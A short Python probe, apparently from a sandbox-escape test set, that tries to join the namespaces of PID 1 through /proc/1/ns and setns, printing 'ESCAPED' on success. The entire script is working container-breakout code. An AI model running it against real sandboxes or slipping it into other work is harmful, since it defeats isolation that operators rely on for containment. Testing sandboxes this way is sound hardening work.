# Tries: enter the namespaces of init
# Status: ok
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
for kind in os.listdir("/proc/self/ns"):
    try:
        descriptor = os.open(f"/proc/1/ns/{kind}", os.O_RDONLY)
        print("ESCAPED: open", kind)
    except OSError:
        descriptor = os.open(f"/proc/self/ns/{kind}", os.O_RDONLY)
    if libc.setns(descriptor, 0) == 0:
        print("ESCAPED: setns", kind)
